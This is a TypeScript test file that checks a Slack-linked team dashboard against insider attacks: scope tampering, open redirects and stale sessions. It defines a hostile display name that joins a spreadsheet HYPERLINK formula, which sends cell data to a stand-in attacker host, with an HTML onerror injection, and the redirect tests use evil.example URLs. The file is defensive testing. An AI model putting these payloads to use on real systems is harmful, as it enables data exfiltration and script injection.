import { parse } from 'csv-parse/sync';
import { setTeam, startHarness, type Harness } from '../helpers/harness';
import { authorise, Browser, DASHBOARD_ENV, signIn } from './sign-in';

/**
 * An insider's attacks on the dashboard, through the real app over HTTP: editing the query or the CSV link to reach
 * another subtree, a display name built to inject HTML or a spreadsheet formula, a `next` parameter to bounce the
 * browser elsewhere, a session kept after the installation changed workspace. Each is refused or made harmless.
 */
let h: Harness;
let hostile: string;
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"x")<img src=x onerror=alert(1)>"\'';

beforeAll(async () => {
  h = await startHarness({ env: DASHBOARD_ENV });
  hostile = h.emulator.addUser({ name: HOSTILE_NAME, realName: HOSTILE_NAME, tz: 'UTC', email: 'hostile@example.com' }).id;
  await setTeam(h, h.people.admin, [h.people.manager, hostile]);
  await setTeam(h, h.people.manager, [h.people.alice, h.people.bob]);
  await setTeam(h, hostile, [h.people.carol]);
}, 30_000);
afterAll(async () => {
  expect(h.emulator.violations()).toEqual([]);
  await h?.stop();
});

const base = () => h.config.dashboard!.publicUrl;

describe('reaching figures that are not yours', () => {
  it('a manager editing scope in the page or the CSV link gets a 403 page, never another subtree or the organisation', async () => {
    const b = await signIn(h, h.people.manager);
    for (const scope of [hostile, 'org', h.people.admin]) {
      for (const path of ['/dashboard', '/dashboard/export.csv']) {
        for (const level of ['all', 'frontline', 'executive']) {
          const res = await b.get(`${path}?scope=${scope}&level=${level}`);
          expect(res.status).toBe(403);
          expect(res.headers.get('content-type')).toMatch(/^text\/html/);
          expect(res.headers.get('cache-control')).toBe('no-store');
          const body = await res.text();
          expect(body).not.toContain('HYPERLINK');
          expect(body).not.toContain('<table');
        }
      }
    }
    // Their own CSV still works, and holds only their own team.
    const own = await b.get('/dashboard/export.csv');
    expect(own.status).toBe(200);
    expect(own.headers.get('cache-control')).toBe('no-store');
    expect(await own.text()).not.toContain('HYPERLINK');
  });

  it('a report following an admin\'s CSV link gets "nothing here", never figures', async () => {
    const b = await signIn(h, h.people.alice);
    for (const q of ['scope=org', `scope=${h.people.manager}`, `scope=${h.people.alice}`]) {
      const res = await b.get(`/dashboard/export.csv?${q}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
      expect(await res.text()).toContain('Nothing here for you yet');
    }
  });
});

describe('a display name built as an attack', () => {
  it('is escaped in every table, option and breadcrumb of the page, and is text in the CSV', async () => {
    const b = await signIn(h, h.people.admin);
    for (const q of ['', `?scope=${hostile}`, '?sort=name&dir=desc']) {
      const page = await (await b.get(`/dashboard${q}`)).text();
      expect(page).toContain('HYPERLINK'); // the name is on the page (so the check below is not vacuous)
      expect(page).not.toContain('<img');
      expect(page).not.toContain('onerror=alert(1)>"');
      expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;&quot;&#39;');
    }
    const csv = await b.get(`/dashboard/export.csv?scope=org`);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="leadwell-dashboard-org-12w-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parse(await csv.text()) as string[][];
    const names = rows.filter((r) => r[1]!.includes('HYPERLINK')).map((r) => r[1]);
    expect(names.length).toBeGreaterThan(0);
    for (const n of names) expect(n).toBe(`'${HOSTILE_NAME}`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });
});

describe('sign-in and session abuse', () => {
  it('has no open redirect: a next or return parameter is ignored, sign-in always lands on /dashboard', async () => {
    const b = new Browser(base());
    const login = await b.get('/dashboard/auth/login?next=https://evil.example/&return_to=//evil.example');
    expect(login.headers.get('location')).not.toContain('evil');
    const callback = await authorise(b, h.people.manager);
    const done = await b.get(`${callback}&next=https://evil.example/&redirect_uri=https://evil.example/`);
    expect(done.status).toBe(303);
    expect(done.headers.get('location')).toBe('/dashboard');
  });

  it('a session cookie stops working once the app belongs to another workspace', async () => {
    const b = await signIn(h, h.people.manager);
    expect(await (await b.get('/dashboard')).text()).toContain('Maria Manager and their teams');
    h.leadwell.slack.deps.workspaces.adoptInstallation('T0SOMEONEELSE');
    try {
      const page = await b.get('/dashboard');
      expect(await page.text()).toContain('Sign in with Slack');
      expect((await b.get('/dashboard/export.csv')).status).toBe(303);
    } finally {
      h.leadwell.slack.deps.workspaces.adoptInstallation(h.emulator.state.team.id);
    }
  });
});
